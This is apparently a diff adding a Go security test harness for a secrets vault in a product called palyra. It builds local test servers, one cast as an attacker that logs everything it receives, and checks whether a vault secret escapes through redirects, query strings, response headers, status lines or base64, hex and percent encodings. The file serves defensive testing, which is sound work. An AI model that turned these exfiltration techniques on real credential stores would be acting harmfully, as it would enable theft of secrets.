@@ -1,0 +1,246 @@
+//go:build linux
+
+package attack
+
+import (
+	"bytes"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/pem"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+
+	"palyra/internal/bus/bustest"
+	"palyra/internal/must"
+	"palyra/test/process"
+)
+
+// vaultWorld is a gateway whose vault has a secret for the host good, and a member bob
+// who is an operator. What good gets in the header of the secret belongs there; all
+// else that the value is found in is an attacker's.
+type vaultWorld struct {
+	*gateway
+	value             string
+	good, evil, plain *httptest.Server
+
+	mu            sync.Mutex
+	given, stolen bytes.Buffer
+}
+
+// placed stands for the secret, mine for the one that is local's alone.
+const (
+	placed = "palyra-sec-global~api"
+	mine   = "palyra-sec-user~local~mine"
+)
+
+const fetches = `@id("fetches")
+@reason("the servers of these tests are their own")
+@waives("approval: the servers are the test's own")
+permit(principal, action == Action::"tool.execute/http.fetch", resource) when { context.egress.mode == "strict" };
+`
+
+func newVaultWorld(t *testing.T) *vaultWorld {
+	t.Helper()
+	v := &vaultWorld{value: planted(t.Name())}
+	v.good = httptest.NewTLSServer(http.HandlerFunc(v.goodHost))
+	v.evil, v.plain = httptest.NewTLSServer(http.HandlerFunc(v.steal)), httptest.NewServer(http.HandlerFunc(v.steal))
+	for _, s := range []*httptest.Server{v.good, v.evil, v.plain} {
+		t.Cleanup(s.Close)
+	}
+	v.gateway = newGateway(t, unattended+fetches, "[http]", fmt.Sprintf("allowed_hosts = [%q, %q, %q]", at(v.good), at(v.evil), at(v.plain)))
+	v.write(v.Config, strings.Replace(read(t, v.Config), "[process_runner]", fmt.Sprintf("[process_runner]\nallowed_egress_hosts = [%q]", at(v.good)), 1))
+	roots := filepath.Join(v.Dir, "roots.pem")
+	v.write(roots, string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: v.good.Certificate().Raw})))
+	address, stop, err := bustest.Start(shortDir(t))
+	must.Do(t, err)
+	t.Cleanup(stop)
+	v.Env = []string{"SSL_CERT_FILE=" + roots, "OF_PALYRAD=" + v.value, "DBUS_SESSION_BUS_ADDRESS=" + address}
+	v.mustStart()
+	v.keep("global/api", "--host", at(v.good), "--env", "API_TOKEN")
+	v.keep("user:local/mine", "--host", at(v.good))
+	if r := v.palyra("members", "add", "bob", "--role", "operator", "--yes", "--out", filepath.Join(v.Dir, "bob")); r.Code != 0 {
+		t.Fatal(r.Err)
+	}
+	return v
+}
+
+// shortDir has a name that is short enough for a socket.
+func shortDir(t *testing.T) string {
+	dir := must.Get(os.MkdirTemp("", "bus"))(t)
+	t.Cleanup(func() { must.Check(t, os.RemoveAll(dir)) })
+	return dir
+}
+
+func at(s *httptest.Server) string { return s.Listener.Addr().String() }
+
+// keep stores the value under a name.
+func (v *vaultWorld) keep(ref string, flags ...string) {
+	v.T.Helper()
+	cmd := v.command(append([]string{"vault", "put", ref}, flags...)...)
+	cmd.Stdin = strings.NewReader(v.value)
+	if text, err := cmd.CombinedOutput(); err != nil {
+		v.T.Fatalf("%v: %s", err, text)
+	}
+}
+
+// goodHost answers as a host does that somebody hostile has a say at.
+func (v *vaultWorld) goodHost(w http.ResponseWriter, r *http.Request) {
+	got := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
+	v.mu.Lock()
+	v.given.WriteString(got + "\n")
+	v.mu.Unlock()
+	r.Header.Del("Authorization")
+	v.note(r)
+	switch r.URL.Path {
+	case "/carry":
+		http.Redirect(w, r, v.evil.URL+"/", http.StatusTemporaryRedirect)
+	case "/tell":
+		http.Redirect(w, r, v.evil.URL+"/?stolen="+got, http.StatusTemporaryRedirect)
+	case "/header":
+		w.Header().Set("Etag", got)
+	case "/status":
+		if conn, _, err := w.(http.Hijacker).Hijack(); err == nil {
+			fmt.Fprintf(conn, "HTTP/1.1 %s OK\r\n\r\n", got)
+			conn.Close()
+		}
+	case "/pieces":
+		for _, c := range []byte(got) {
+			_, _ = w.Write([]byte{c})
+			w.(http.Flusher).Flush()
+		}
+	default:
+		_, _ = io.WriteString(w, asForm(strings.TrimPrefix(r.URL.Path, "/"), got))
+	}
+}
+
+// asForm writes a value in another way.
+func asForm(form, value string) string {
+	base := base64.StdEncoding.EncodeToString
+	switch form {
+	case "base64":
+		return base([]byte(value))
+	case "base64-twice":
+		return base([]byte(base([]byte(value))))
+	case "hex":
+		return hex.EncodeToString([]byte(value))
+	case "percent", "escapes":
+		var out strings.Builder
+		for _, c := range []byte(value) {
+			fmt.Fprintf(&out, map[string]string{"percent": "%%%02X", "escapes": `\u%04x`}[form], c)
+		}
+		return out.String()
+	case "text":
+		return value
+	}
+	return "fine"
+}
+
+func (v *vaultWorld) steal(_ http.ResponseWriter, r *http.Request) { v.note(r) }
+
+// note keeps all of a request.
+func (v *vaultWorld) note(r *http.Request) {
+	body, _ := io.ReadAll(r.Body)
+	v.mu.Lock()
+	defer v.mu.Unlock()
+	fmt.Fprintf(&v.stolen, "%s %s %q\n%s\n", r.Method, r.URL, r.Header, body)
+}
+
+// holds reports whether the value, in any form, or a key of the vault is in a text.
+func (v *vaultWorld) holds(text string) bool {
+	for _, form := range []string{"percent", "escapes", "base64-twice"} {
+		if strings.Contains(strings.ToLower(text), strings.ToLower(asForm(form, v.value))) {
+			return true
+		}
+	}
+	return holdsSecret([]byte(strings.ReplaceAll(text, `\\u`, `\u`)), v.value) || strings.Contains(text, `"kek_`) || strings.Contains(text, `\"kek_`)
+}
+
+// sent adds the value to what a call told and what attackers took when a placeholder
+// is in a request: hosts must not see any either. palyrad names it in no answer.
+func (v *vaultWorld) sent(told string) string {
+	if strings.Contains(strings.ToLower(told), placed) {
+		return told + v.value
+	}
+	return told
+}
+
+// taken is what attackers got from the network since it was asked last, and given what
+// the host got in the secret's header.
+func (v *vaultWorld) taken() string { return v.take(&v.stolen) }
+
+func (v *vaultWorld) give() string { return v.take(&v.given) }
+
+func (v *vaultWorld) take(from *bytes.Buffer) string {
+	v.mu.Lock()
+	defer v.mu.Unlock()
+	defer from.Reset()
+	return from.String()
+}
+
+// fetch calls http.fetch; more are other inputs.
+func (v *vaultWorld) fetch(url string, more ...string) string {
+	v.T.Helper()
+	return said(v.palyra(append([]string{"call", "http.fetch", "url=" + url}, more...)...))
+}
+
+func said(r process.Result) string { return r.Out + r.Err }
+
+// header is the input of one header.
+func header(name, value string) string { return fmt.Sprintf(`headers={%q:%q}`, name, value) }
+
+// as runs palyra with the credential in a directory of the gateway.
+func (v *vaultWorld) as(who string, args ...string) string {
+	v.T.Helper()
+	_, address, _ := strings.Cut(read(v.T, filepath.Join(v.State, "operator", "endpoint")), "address=")
+	address, _, _ = strings.Cut(address, "\n")
+	cmd := v.command(args...)
+	cmd.Env = append(cmd.Env, "PALYRA_CREDENTIALS="+filepath.Join(v.Dir, who), "PALYRA_ADDRESS="+address)
+	cmd.Stdin = strings.NewReader("hijacked value")
+	return said(process.Finish(v.T, cmd))
+}
+
+// token makes a credential for a token of local's with such scopes.
+func (v *vaultWorld) token(scope string) {
+	v.T.Helper()
+	if r := v.palyra("tokens", "create", "t", "--scope", scope, "--out", filepath.Join(v.Dir, "token")); r.Code != 0 {
+		v.T.Fatal(r.Err)
+	}
+}
+
+// link leads from the workspace to the state directory.
+func (v *vaultWorld) link() {
+	v.T.Helper()
+	if err := os.Symlink(v.State, filepath.Join(v.Workspace, "state")); err != nil && !os.IsExist(err) {
+		v.T.Fatal(err)
+	}
+}
+
+// bare runs a program in the workspace as palyrad's user, with nothing around it.
+func (v *vaultWorld) bare(argv ...string) string {
+	cmd := exec.CommandContext(v.T.Context(), argv[0], argv[1:]...)
+	cmd.Dir = v.Workspace
+	text, _ := cmd.CombinedOutput()
+	return string(text)
+}
+
+// TestVault tries the attacks on the vault by the whole product.
+func TestVault(t *testing.T) {
+	t.Parallel()
+	for _, r := range vaultAttacks() {
+		t.Run(strings.ReplaceAll(r.id+" "+r.variant, " ", "_"), func(t *testing.T) {
+			t.Parallel()
+			v := newVaultWorld(t)
+			attack := r.attack(v) + v.taken()
+			control := r.control(v) + v.taken()
+			record(t, r.id+" "+r.variant, v.holds(attack), v.holds(control), attack+"; control: "+control)
+		})
+	}
+}
